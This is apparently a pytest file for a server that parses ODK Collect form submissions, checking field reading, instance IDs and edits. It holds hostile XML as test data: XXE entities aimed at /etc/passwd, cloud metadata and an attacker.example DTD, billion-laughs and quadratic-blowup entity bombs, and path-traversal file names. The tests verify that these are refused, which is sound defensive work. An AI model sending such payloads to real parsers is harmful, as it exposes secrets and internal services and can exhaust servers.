"""Submitted instance XML: read by element name, and hostile XML refused before expansion."""

from __future__ import annotations

import defusedxml.ElementTree as SafeET
import pytest

from server.odk.forms import get_form
from server.odk.instances import (
    InvalidInstanceError,
    MalformedXmlError,
    UnsafeXmlError,
    list_expected_attachments,
    parse_instance,
)
from tests.odk.samples import (
    EXIT_REGISTRATION_ANSWERS,
    HOUSEHOLD_ID,
    INSTANCE_UUID,
    fill_instance,
)

# Byte for byte the shape ODK Collect v2023 sends as xml_submission_file.
COLLECT_XML = """<?xml version='1.0' ?><data id="exit_registration" version="2026112901" \
xmlns:h="http://www.w3.org/1999/xhtml" xmlns:jr="http://openrosa.org/javarosa" \
xmlns:orx="http://openrosa.org/xforms" xmlns:odk="http://www.opendatakit.org/xforms">\
<start>2020-05-02T08:01:12.345+07:00</start><end>2020-05-02T08:15:00.000+07:00</end>\
<deviceid>collect:Xb7Qz1</deviceid><household><existing_household_id />\
<new_household_id>3b0c2f4e-5a61-4d2b-9c1e-7f8a9b0c1d2e</new_household_id>\
<household_id>3b0c2f4e-5a61-4d2b-9c1e-7f8a9b0c1d2e</household_id>\
<household_code>BTM-TS-0731</household_code><commune_code>20900</commune_code>\
<village>Thôn 2</village><head_name>Hồ Văn Đước</head_name><members>5</members>\
<category>poor</category><ethnic_minority>yes</ethnic_minority><phone /><location />\
</household><registration><year>2020</year><kind>exit_poverty</kind>\
<needs>livestock preferential_loan</needs><commitment>yes</commitment>\
<signed_on>2020-05-02</signed_on><notes /><signed_form_photo>1588381500123.jpg</signed_form_photo>\
</registration><meta><instanceID>uuid:e4b5a2c8-1f3d-4e6a-8b7c-9d0e1f2a3b4c</instanceID>\
<instanceName>Hồ Văn Đước - BTM-TS-0731</instanceName></meta></data>"""


def test_a_collect_submission_is_read_by_element_name_at_any_depth():
    instance = parse_instance(COLLECT_XML.encode("utf-8"))
    assert instance.form_id == "exit_registration"
    assert instance.version == "2026112901"
    assert instance.instance_id == f"uuid:{INSTANCE_UUID}"
    assert instance.uuid == INSTANCE_UUID
    assert instance.deprecated_id is None and not instance.is_edit
    assert instance.get("household_id") == HOUSEHOLD_ID
    assert instance.get("head_name") == "Hồ Văn Đước"
    assert instance.get("needs") == "livestock preferential_loan"
    assert instance.get("instanceName") == "Hồ Văn Đước - BTM-TS-0731"
    # Empty and absent answers read the same: not given.
    assert instance.get("notes") is None
    assert instance.get("no_such_question") is None
    assert instance.fields["notes"] == ""


def test_an_instance_built_from_the_compiled_form_parses_with_every_answer():
    instance = parse_instance(fill_instance("exit_registration", EXIT_REGISTRATION_ANSWERS))
    for name, value in EXIT_REGISTRATION_ANSWERS.items():
        assert instance.get(name) == value


def test_namespaced_elements_are_read_by_their_local_names():
    xml = fill_instance("exit_registration", EXIT_REGISTRATION_ANSWERS, namespaced=True)
    assert SafeET.fromstring(xml).tag == "{http://www.w3.org/2002/xforms}data"
    instance = parse_instance(xml)
    assert instance.instance_id == f"uuid:{INSTANCE_UUID}"
    assert instance.get("members") == "5"


def test_an_orx_meta_block_is_read_too():
    xml = (
        '<data id="payout_receipt" xmlns:orx="http://openrosa.org/xforms"><payout_id>x</payout_id>'
        "<orx:meta><orx:instanceID>uuid:E4B5A2C8-1F3D-4E6A-8B7C-9D0E1F2A3B4C</orx:instanceID></orx:meta></data>"
    )
    instance = parse_instance(xml)
    assert instance.instance_id == f"uuid:{INSTANCE_UUID}"  # canonical lower case
    assert instance.version is None


def test_an_edit_names_the_instance_it_replaces():
    new_uuid = "5d6e7f80-9a1b-4c2d-8e3f-4a5b6c7d8e9f"
    xml = fill_instance(
        "exit_registration", EXIT_REGISTRATION_ANSWERS, new_uuid, deprecated_uuid=INSTANCE_UUID
    )
    instance = parse_instance(xml)
    assert instance.instance_id == f"uuid:{new_uuid}"
    assert instance.deprecated_id == f"uuid:{INSTANCE_UUID}"
    assert instance.is_edit


def test_an_edit_must_have_a_new_instance_id():
    xml = fill_instance("exit_registration", EXIT_REGISTRATION_ANSWERS, deprecated_uuid=INSTANCE_UUID)
    with pytest.raises(InvalidInstanceError) as raised:
        parse_instance(xml)
    assert raised.value.details == {"instanceID": ["equals deprecatedID"]}


XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE data [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<data id="exit_registration"><head_name>&secret;</head_name>
<meta><instanceID>uuid:e4b5a2c8-1f3d-4e6a-8b7c-9d0e1f2a3b4c</instanceID></meta></data>"""

XXE_URL = b"""<?xml version="1.0"?>
<!DOCTYPE data [<!ENTITY remote SYSTEM "http://169.254.169.254/latest/meta-data/">]>
<data id="exit_registration"><notes>&remote;</notes></data>"""

XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE data [<!ENTITY % dtd SYSTEM "http://attacker.example/evil.dtd"> %dtd;]>
<data id="exit_registration"/>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE data SYSTEM "http://attacker.example/evil.dtd">
<data id="exit_registration"/>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<data id="exit_registration"><notes>&lol9;</notes>
<meta><instanceID>uuid:e4b5a2c8-1f3d-4e6a-8b7c-9d0e1f2a3b4c</instanceID></meta></data>"""

# Quadratic blowup needs no nesting: one large entity referenced many times.
QUADRATIC_BLOWUP = (
    b'<?xml version="1.0"?><!DOCTYPE data [<!ENTITY a "' + b"a" * 50_000 + b'">]><data id="x"><notes>'
    + b"&a;" * 50_000
    + b"</notes></data>"
)  # fmt: skip


@pytest.mark.parametrize(
    "payload",
    [XXE_FILE, XXE_URL, XXE_PARAMETER, EXTERNAL_DTD, BILLION_LAUGHS, QUADRATIC_BLOWUP],
    ids=["file-entity", "url-entity", "parameter-entity", "external-dtd", "billion-laughs", "quadratic"],
)
def test_dtds_and_entities_are_refused_without_being_expanded(payload):
    with pytest.raises(UnsafeXmlError) as raised:
        parse_instance(payload)
    assert raised.value.code == "unsafe_xml"
    assert "DTD" in raised.value.message
    assert "root:" not in raised.value.message  # nothing of /etc/passwd leaks into the message


def test_malformed_xml_is_a_clear_error():
    with pytest.raises(MalformedXmlError, match="not well-formed XML"):
        parse_instance(b"<data id='exit_registration'><members>5</data>")
    with pytest.raises(MalformedXmlError):
        parse_instance(b"")


def test_a_root_without_a_form_id_is_refused():
    with pytest.raises(InvalidInstanceError, match="no id attribute") as raised:
        parse_instance(
            b"<data><meta><instanceID>uuid:e4b5a2c8-1f3d-4e6a-8b7c-9d0e1f2a3b4c</instanceID></meta></data>"
        )
    assert raised.value.details == {"id": ["is required"]}


@pytest.mark.parametrize(
    ("meta", "details"),
    [
        ("", {"instanceID": ["is required"]}),
        ("<instanceID></instanceID>", {"instanceID": ["is required"]}),
        (
            "<instanceID>e4b5a2c8-1f3d-4e6a-8b7c-9d0e1f2a3b4c</instanceID>",
            {"instanceID": ["must be uuid:<uuid>"]},
        ),
        ("<instanceID>uuid:not-a-uuid</instanceID>", {"instanceID": ["must be uuid:<uuid>"]}),
        (
            "<instanceID>uuid:e4b5a2c8-1f3d-4e6a-8b7c-9d0e1f2a3b4c</instanceID><deprecatedID>7</deprecatedID>",
            {"deprecatedID": ["must be uuid:<uuid>"]},
        ),
    ],
)
def test_a_missing_or_malformed_instance_id_is_refused(meta, details):
    xml = f'<data id="exit_registration" version="1"><members>5</members><meta>{meta}</meta></data>'
    with pytest.raises(InvalidInstanceError) as raised:
        parse_instance(xml)
    assert raised.value.details == details


def test_repeated_element_names_are_refused_rather_than_guessed():
    xml = (
        '<data id="exit_registration"><household><notes>a</notes></household><registration><notes>b</notes>'
        "</registration><meta><instanceID>uuid:e4b5a2c8-1f3d-4e6a-8b7c-9d0e1f2a3b4c</instanceID></meta></data>"
    )
    with pytest.raises(InvalidInstanceError) as raised:
        parse_instance(xml)
    assert raised.value.details == {"notes": ["appears more than once"]}


def test_the_expected_attachments_are_the_file_answers():
    form = get_form("exit_registration")
    instance = parse_instance(fill_instance("exit_registration", EXIT_REGISTRATION_ANSWERS))
    assert list_expected_attachments(instance, form.binary_fields) == ["1588381500123.jpg"]
    without_photo = {**EXIT_REGISTRATION_ANSWERS, "signed_form_photo": ""}
    instance = parse_instance(fill_instance("exit_registration", without_photo))
    assert list_expected_attachments(instance, form.binary_fields) == []


@pytest.mark.parametrize("name", ["../../etc/passwd", "a/b.jpg", "..", "c:\\boot.ini", "tab\there.jpg"])
def test_a_file_answer_that_is_a_path_is_refused(name):
    answers = {**EXIT_REGISTRATION_ANSWERS, "signed_form_photo": name}
    instance = parse_instance(fill_instance("exit_registration", answers))
    with pytest.raises(InvalidInstanceError) as raised:
        list_expected_attachments(instance, get_form("exit_registration").binary_fields)
    assert raised.value.details == {"signed_form_photo": ["must be a plain file name"]}
